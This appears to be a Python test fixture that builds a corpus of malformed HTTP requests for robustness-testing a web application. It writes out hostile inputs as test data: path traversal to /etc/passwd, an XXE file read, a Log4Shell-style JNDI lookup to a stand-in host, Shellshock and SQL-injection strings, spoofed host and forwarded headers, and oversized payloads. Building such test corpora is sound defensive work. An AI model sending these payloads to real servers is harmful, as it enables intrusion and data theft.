"""Requests that are malformed as such, whatever they hold: bodies, types, cookies, headers, methods.

Each is ``(category, what it is, method, body, WSGI's headers)``; the address is anybody's.
"""

from tests.hostile.corpus import IN_TURN

FORM = "application/x-www-form-urlencoded"
MULTIPART = "multipart/form-data; boundary=B"
NUL_NAME = b"""--B\r
Content-Disposition: form-data; name="te\x00xt"; filename="a\x00.exe\r
.pdf"\r
\r
x\r
--B--\r
"""


def part(name="text", value=b"x", *lines, filename=None):
    """Return one part of a multipart body."""
    file = f'; filename="{filename}"' if filename is not None else ""
    head = [f'Content-Disposition: form-data; name="{name}"{file}', *lines]
    return b"--B\r\n" + "\r\n".join(head).encode() + b"\r\n\r\n" + value + b"\r\n"


END = b"--B--\r\n"
BODIES = {
    "multipart without a boundary": ("multipart/form-data", part() + END),
    "multipart with an empty boundary": ('multipart/form-data; boundary=""', part() + END),
    "multipart with a boundary of 10,000 letters": (f"multipart/form-data; boundary={'b' * 10_000}", b""),
    "multipart that never ends": (MULTIPART, part() * 3),
    "multipart of nothing but its end": (MULTIPART, END),
    "multipart inside multipart": (
        MULTIPART,
        part("text", b"x", "Content-Type: multipart/mixed; boundary=C") + END,
    ),
    "a part without a name": (MULTIPART, b"--B\r\nContent-Disposition: form-data\r\n\r\nx\r\n" + END),
    "a part without a head": (MULTIPART, b"--B\r\n\r\nx\r\n" + END),
    "names that come twice": (MULTIPART, part() + part() + part(filename="x") + END),
    "a file where words belong": (
        MULTIPART,
        part("text", b"\xff\xfe\x00", filename="../../etc/passwd") + END,
    ),
    "words where a file belongs": (MULTIPART, part("file", b"x") + END),
    "NUL and line ends in a file's name": (MULTIPART, NUL_NAME + END),
    "an encoded file name in a made-up charset": (
        MULTIPART,
        part().replace(b'name="text"', b"name=text; filename*=utf-99''%ff%fe") + END,
    ),
    "base64 that is none": (MULTIPART, part("text", b"!!!", "Content-Transfer-Encoding: base64") + END),
    "a transfer encoding nobody knows": (
        MULTIPART,
        part("text", b"x", "Content-Transfer-Encoding: x-canary") + END,
    ),
    "a head of 100,000 letters": (MULTIPART, part("text", b"x", f"X-Canary: {'x' * 100_000}") + END),
    "3,000 parts": (MULTIPART, b"".join(part(f"f{number}") for number in range(3_000)) + END),
    "50 files": (MULTIPART, b"".join(part(f"f{number}", filename="x.csv") for number in range(50)) + END),
    "3,000 fields": (FORM, b"&".join(b"f%d=x" % number for number in range(3_000))),
    "a field with a name of 100,000 letters": (FORM, b"x" * 100_000 + b"=1"),
    "bytes that are no UTF-8": (FORM, bytes(range(256)) * 8),
    "fields as lists and objects": (FORM, b"text[]=a&text[0]=b&text[a][b]=c&text=&text&=&&;=;text.x=1"),
    "JSON": ("application/json", b'{"text": "\\ud800", "version": 1e999}'),
    "JSON a hundred thousand deep": ("application/json", b"[" * 100_000),
    "XML with an entity": (
        "application/xml",
        b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    ),
    "a type that is none": ("\x00/;;;=", b"text=x"),
    "a type with a charset that decodes otherwise": (f"{FORM}; charset=utf-7", b"text=+ADw-x-canary+AD4-"),
    "a type of 10,000 letters": ("x" * 10_000, b"x"),
    "no type": ("", b"text=x"),
}
# A length that is no number never arrives: gunicorn refuses it, as HTTP says.
HEADERS = {
    "another host": {"HTTP_HOST": "canary.example"},
    "a host with a port that is none": {"HTTP_HOST": "testserver:canary"},
    "a host with a path": {"HTTP_HOST": "testserver/@canary.example"},
    "no host": {"HTTP_HOST": ""},
    "a host in other letters": {"HTTP_HOST": "tеstserver.canary.example".encode().decode("latin-1")},
    "forwarded hosts": {
        "HTTP_X_FORWARDED_HOST": "canary.example",
        "HTTP_X_FORWARDED_SERVER": "canary.example",
        "HTTP_FORWARDED": "host=canary.example;proto=https;for=127.0.0.1",
        "HTTP_X_ORIGINAL_URL": "/admin/",
        "HTTP_X_REWRITE_URL": "/admin/",
    },
    "forwarded addresses": {
        "HTTP_X_FORWARDED_FOR": "' OR 1=1, 127.0.0.1, \x00, " + "1.1.1.1," * 2_000,
        "HTTP_X_REAL_IP": "::ffff:127.0.0.1%canary",
        "HTTP_X_FORWARDED_PROTO": "javascript",
        "HTTP_X_FORWARDED_PORT": "-1",
    },
    "languages": {"HTTP_ACCEPT_LANGUAGE": "../../etc/passwd;q=NaN,*;q=-1," + "x-" * 3_000},
    "ranges": {"HTTP_RANGE": "bytes=0-,-0,9999999999999999999-1," + "0-1," * 1_000},
    "dates": {"HTTP_IF_MODIFIED_SINCE": "Mon, 99 Foo 99999 99:99:99 GMT", "HTTP_IF_NONE_MATCH": 'W/"' * 500},
    "dates of the year 0": {
        "HTTP_IF_UNMODIFIED_SINCE": "Thu, 01 Jan 0000 00:00:00 GMT",
        "HTTP_IF_MATCH": "*",
    },
    "agents and referrers": {
        "HTTP_USER_AGENT": "<x-canary>${jndi:ldap://canary.example/a}() { :; }; \x1b[31m",
        "HTTP_REFERER": "javascript:canary()//" + "x" * 5_000,
        "HTTP_ORIGIN": "null",
    },
    "scripts of ours, as if": {
        "HTTP_X_REQUESTED_WITH": "fetch",
        "HTTP_HX_REQUEST": "true",
        "HTTP_PART": "finding",
    },
    "a method behind another one": {
        "HTTP_X_HTTP_METHOD_OVERRIDE": "DELETE",
        "HTTP_X_METHOD_OVERRIDE": "PUT",
        "HTTP_X_HTTP_METHOD": "POST",
    },
    "authorisation": {"HTTP_AUTHORIZATION": "Basic " + "=" * 4_000, "HTTP_PROXY": "http://canary.example"},
    "a length that is none": {"CONTENT_LENGTH": "-1"},
    "accepts nothing": {"HTTP_ACCEPT": "canary/\x00;q=2", "HTTP_ACCEPT_ENCODING": "canary;q=9," * 900},
}
COOKIES = {
    "a session that was never begun": "sessionid=" + "a" * 32,
    "a session of odd letters": "sessionid=../../etc/passwd\xff; csrftoken=<x-canary>",
    "a session of 8,000 letters": "sessionid=" + "s" * 8_000,
    "messages that are none": "messages=W1siX19qc29uX21lc3NhZ2Ui; messages=[[[",
    "messages of 100,000 brackets": "messages=" + "[" * 100_000,
    "a guard of a wrong length": "csrftoken=" + "c" * 300,
    "2,000 cookies": "; ".join(f"c{number}=1" for number in range(2_000)),
    "no cookie at all": ";;;=;==;\x00=\x01;,",
    "a phone's cookie of nobody": "; ".join(
        f"waterline-phone-{code}=canary" for code in ("AAAA", "' OR 1=1")
    ),
}
METHODS = (
    "PUT",
    "PATCH",
    "DELETE",
    "OPTIONS",
    "TRACE",
    "CONNECT",
    "PROPFIND",
    "HEAD",
    "<x-canary>",
    "get",
    "G" * 999,
)


def envelopes(every=1):
    """Return malformed requests as ``(category, what, method, body, content type, WSGI's headers)``.

    ``every`` nth entry of the corpus comes as a header.
    """
    found = [("body", what, "POST", body, type, {}) for what, (type, body) in BODIES.items()]
    for category, kinds in (
        ("header", HEADERS),
        ("cookie", {k: {"HTTP_COOKIE": v} for k, v in COOKIES.items()}),
    ):
        for what, headers in kinds.items():
            found += [(category, what, method, b"text=x", FORM, headers) for method in ("GET", "POST")]
    found += [("method", method, method, b"", FORM, {}) for method in METHODS]
    entries = [entry for entry in IN_TURN if len(entry.raw) < 3_000][::every]
    return found + [
        (
            "header",
            f"{entry} as a header",
            "GET",
            b"",
            FORM,
            {"HTTP_X_CANARY": _header(entry), "HTTP_REFERER": _header(entry)},
        )
        for entry in entries
    ]


def _header(entry):
    """Return a text as a server hands a header over: bytes as Latin-1, without line ends."""
    return entry.arrives.encode().decode("latin-1").replace("\r", "").replace("\n", "")
